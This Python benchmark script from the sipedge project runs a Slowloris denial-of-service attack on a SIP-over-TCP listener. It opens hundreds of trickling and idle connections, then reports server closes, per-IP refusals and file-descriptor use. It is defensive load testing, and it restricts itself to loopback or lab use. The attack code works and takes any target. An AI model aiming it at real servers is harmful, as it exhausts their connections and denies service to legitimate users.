"""Slowloris against a SIP stream listener: does the server close what it must, and when.

Opens ``--trickle`` connections that each send one SIP request a byte every
``--interval`` seconds (so the connection is never idle, but the message never ends), and
``--idle`` connections that send nothing at all, spread over the ``--sources`` addresses;
optionally a ``--normal`` client that keeps sending whole OPTIONS requests over its own
connection. Then it waits (at most ``--wait`` s) and reports, per group, how many the
server closed (FIN or RST), how many were refused at once (closed within 50 ms of the
connect, before any deadline: a connection cap), how many are still open, and the
connection lifetimes (min / median / p99 / max). With ``--pid`` (or ``--serve``) it
samples the target's open file descriptors (``/proc/PID/fd``) every 0.1 s: baseline,
peak, last.

    # against a running sipedge (or anything else speaking SIP over TCP)
    python bench/slowloris.py 127.0.11.1:5060 --trickle 300 --idle 200 --pid $(pidof -s sipedge)

    # self-contained: start sipedge's stream transport in a child process with short
    # deadlines (0.5 s first byte, 1 s message) and attack it; the child prints its
    # close counters (StreamTable.closes by reason) and message count at the end
    python bench/slowloris.py --serve 127.0.11.1:0 --trickle 300 --idle 200 --normal

    # how a cap shows up: 100 idle connections from one address, default per-IP cap 64
    python bench/slowloris.py --serve 127.0.11.1:0 --idle 100 --trickle 0 \
        --sources 127.0.11.10 --first-byte 2

The sources default to 127.0.11.10–127.0.11.19 (50 connections each for the figures
above, under sipedge's default ``max_connections_per_ip`` of 64). Use loopback or a lab
network: this is an attack tool. Exit status 0 when every attacking connection was
closed by the server before ``--wait`` ran out, 1 otherwise.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import json
import os
import statistics
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

#: A connection closed this soon after its connect was refused by a cap, not a deadline.
REFUSED_WITHIN_S = 0.05


def request(n: int, host: str) -> bytes:
    """A well-formed OPTIONS (Content-Length: 0) numbered ``n``."""
    return (
        f"OPTIONS sip:ping@{host} SIP/2.0\r\n"
        f"Via: SIP/2.0/TCP {host}:5060;branch=z9hG4bK-slowloris-{n}\r\n"
        "Max-Forwards: 70\r\n"
        f"From: <sip:slowloris@{host}>;tag={n}\r\n"
        f"To: <sip:ping@{host}>\r\n"
        f"Call-ID: slowloris-{n}\r\n"
        f"CSeq: 1 OPTIONS\r\n"
        "Content-Length: 0\r\n\r\n"
    ).encode()


@dataclass
class Group:
    name: str
    lifetimes: list[float] = field(default_factory=list)  # server closed it after this long
    refused: int = 0
    failed_connect: int = 0
    open: int = 0

    def report(self, opened: int) -> str:
        line = (f"{self.name:8} opened={opened} closed_by_server={len(self.lifetimes)} "
                f"refused_at_once={self.refused} still_open={self.open} "
                f"connect_failed={self.failed_connect}")
        if self.lifetimes:
            s = sorted(self.lifetimes)
            p99 = s[min(len(s) - 1, int(len(s) * 0.99))]
            line += (f" lifetime_s min={s[0]:.3f} median={statistics.median(s):.3f} "
                     f"p99={p99:.3f} max={s[-1]:.3f}")
        return line


async def read_to_close(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(65536):
            pass


async def attacker(
    target: tuple[str, int], source: str, n: int, trickle: bool, interval: float,
    group: Group, stop: asyncio.Event,
) -> None:
    loop = asyncio.get_running_loop()
    start = loop.time()
    try:
        reader, writer = await asyncio.open_connection(*target, local_addr=(source, 0))
    except OSError:
        group.failed_connect += 1
        return

    async def drip() -> None:
        with contextlib.suppress(ConnectionError):
            for byte in request(n, source) * 1000:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(interval)

    sender = asyncio.create_task(drip()) if trickle else None
    closed = asyncio.create_task(read_to_close(reader))
    halt = asyncio.create_task(stop.wait())
    await asyncio.wait({closed, halt}, return_when=asyncio.FIRST_COMPLETED)
    lifetime = loop.time() - start
    if closed.done():
        if lifetime < REFUSED_WITHIN_S:
            group.refused += 1
        else:
            group.lifetimes.append(lifetime)
    else:
        group.open += 1
    for task in (sender, closed, halt):
        if task is not None:
            task.cancel()
    writer.close()
    with contextlib.suppress(ConnectionError):
        await writer.wait_closed()


async def normal_client(
    target: tuple[str, int], source: str, stop: asyncio.Event, out: dict[str, object]
) -> None:
    reader, writer = await asyncio.open_connection(*target, local_addr=(source, 0))
    closed = asyncio.create_task(read_to_close(reader))
    sent = 0
    while not stop.is_set() and not closed.done():
        sent += 1
        writer.write(request(900_000 + sent, source))
        await writer.drain()
        await asyncio.sleep(0.1)
    out["normal_sent"] = sent
    out["normal_still_open"] = not closed.done()
    closed.cancel()
    writer.close()
    with contextlib.suppress(ConnectionError):
        await writer.wait_closed()


def count_fds(pid: int) -> int | None:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


async def sample_fds(pid: int, stop: asyncio.Event, samples: list[tuple[float, int]]) -> None:
    t0 = time.monotonic()
    while not stop.is_set():
        n = count_fds(pid)
        if n is not None:
            samples.append((time.monotonic() - t0, n))
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.1)


def parse_sources(spec: str) -> list[str]:
    """``a.b.c.d``, ``a.b.c.d-a.b.c.e`` ranges and commas."""
    out: list[str] = []
    for part in spec.split(","):
        lo, _, hi = part.partition("-")
        first = ipaddress.ip_address(lo.strip())
        last = ipaddress.ip_address(hi.strip()) if hi else first
        out += [str(ipaddress.ip_address(i)) for i in range(int(first), int(last) + 1)]
    return out


def parse_hostport(spec: str) -> tuple[str, int]:
    host, _, port = spec.rpartition(":")
    return host.strip("[]"), int(port)


async def attack(args: argparse.Namespace, target: tuple[str, int], pid: int | None) -> int:
    sources = parse_sources(args.sources)
    stop = asyncio.Event()
    trickle, idle = Group("trickle"), Group("idle")
    samples: list[tuple[float, int]] = []
    sampler = asyncio.create_task(sample_fds(pid, stop, samples)) if pid else None
    await asyncio.sleep(0.15 if pid else 0)  # a baseline sample before the first connect
    normal_out: dict[str, object] = {}
    normal = (asyncio.create_task(normal_client(target, sources[0], stop, normal_out))
              if args.normal else None)
    t0 = time.monotonic()
    tasks = [attacker(target, sources[i % len(sources)], i, True, args.interval, trickle, stop)
             for i in range(args.trickle)]
    tasks += [attacker(target, sources[(args.trickle + i) % len(sources)], args.trickle + i,
                       False, args.interval, idle, stop) for i in range(args.idle)]
    runs = asyncio.gather(*tasks)
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.shield(runs), args.wait)
    all_closed_s = time.monotonic() - t0
    stop.set()
    await runs
    if normal is not None:
        await normal
    await asyncio.sleep(0.3 if pid else 0)  # let the target release what it held
    if sampler is not None:
        stop.set()
        await sampler
        n = count_fds(pid) if pid else None
        if n is not None:
            samples.append((samples[-1][0] if samples else 0.0, n))

    print(f"target {target[0]}:{target[1]} sources={len(sources)} interval={args.interval}s")
    print(trickle.report(args.trickle))
    print(idle.report(args.idle))
    print(f"attack over after {all_closed_s:.2f}s (wait limit {args.wait}s)")
    if normal_out:
        print(f"normal   sent={normal_out['normal_sent']} whole messages, "
              f"connection still open at the end: {normal_out['normal_still_open']}")
    if samples:
        print(f"target fds (pid {pid}): baseline={samples[0][1]} "
              f"peak={max(n for _, n in samples)} last={samples[-1][1]}")
    unclosed = trickle.open + idle.open
    return 0 if unclosed == 0 else 1


# -- --serve: sipedge's stream transport in a child process -----------------------------


def serve_child(listen: str, first_byte_s: float, message_s: float, per_ip: int) -> None:
    """Run a Transports TCP listener until stdin closes, then print its counters (JSON)."""
    from sipedge.sip.address import Endpoint
    from sipedge.transport import StreamSettings, Transports, run

    class CountingSink:
        messages = 0

        def receive(self, data: bytes, peer: Endpoint, local: Endpoint, now: float) -> None:
            self.messages += 1

        def transport_error(self, dest: Endpoint, now: float) -> None:
            pass

        def is_answerable(self, peer: Endpoint, local: Endpoint, now: float) -> bool:
            return True  # no ACL here: every source is answered as an allowed one

    async def main() -> None:
        host, port = parse_hostport(listen)
        settings = StreamSettings(first_byte_timeout_s=first_byte_s,
                                  message_timeout_s=message_s, max_connections_per_ip=per_ip)
        sink = CountingSink()
        async with Transports(sink, settings=settings) as t:
            (local,) = await t.start([Endpoint("tcp", host, port)])
            print(f"READY {local.port} {os.getpid()}", flush=True)
            loop = asyncio.get_running_loop()
            await loop.run_in_executor(None, sys.stdin.read)
            closes = {r.value: n for r, n in t.stream_closes.items() if n}
            print(json.dumps({"closes": closes, "messages": sink.messages,
                              "connections_left": t.connection_count}), flush=True)

    run(main())


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("target", nargs="?", help="host:port of the listener to attack")
    ap.add_argument("--trickle", type=int, default=300, help="connections dripping a request")
    ap.add_argument("--idle", type=int, default=200, help="connections that never send")
    ap.add_argument("--interval", type=float, default=0.2, help="seconds between bytes")
    ap.add_argument("--sources", default="127.0.11.10-127.0.11.19",
                    help="source addresses: a.b.c.d, ranges a-b, commas")
    ap.add_argument("--normal", action="store_true",
                    help="also run a client sending whole OPTIONS every 0.1 s")
    ap.add_argument("--wait", type=float, default=30.0,
                    help="give up waiting for the server after this long")
    ap.add_argument("--pid", type=int, help="sample this process's open fds")
    ap.add_argument("--serve", metavar="HOST:PORT",
                    help="start sipedge's stream transport there (child process) and attack it")
    ap.add_argument("--first-byte", type=float, default=0.5, help="--serve: first_byte_timeout_s")
    ap.add_argument("--message", type=float, default=1.0, help="--serve: message_timeout_s")
    ap.add_argument("--per-ip", type=int, default=64, help="--serve: max_connections_per_ip")
    ap.add_argument("--serve-child", metavar="HOST:PORT", help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.serve_child:
        serve_child(args.serve_child, args.first_byte, args.message, args.per_ip)
        return 0
    if args.serve:
        child = subprocess.Popen(
            [sys.executable, __file__, "--serve-child", args.serve,
             "--first-byte", str(args.first_byte), "--message", str(args.message),
             "--per-ip", str(args.per_ip)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )
        assert child.stdin is not None and child.stdout is not None
        try:
            ready = child.stdout.readline().split()
            if not ready or ready[0] != "READY":
                print("the sipedge child did not start", file=sys.stderr)
                return 2
            target = (parse_hostport(args.serve)[0], int(ready[1]))
            print(f"sipedge stream transport pid {ready[2]}: first_byte_timeout_s="
                  f"{args.first_byte} message_timeout_s={args.message} "
                  f"max_connections_per_ip={args.per_ip}")
            status = asyncio.run(attack(args, target, int(ready[2])))
            child.stdin.close()
            print(f"sipedge says: {child.stdout.readline().strip()}")
            child.wait(timeout=10)
            return status
        finally:
            if child.poll() is None:
                child.kill()
                child.wait()
    if not args.target:
        ap.error("a target host:port, or --serve HOST:PORT")
    return asyncio.run(attack(args, parse_hostport(args.target), args.pid))


if __name__ == "__main__":
    sys.exit(main())
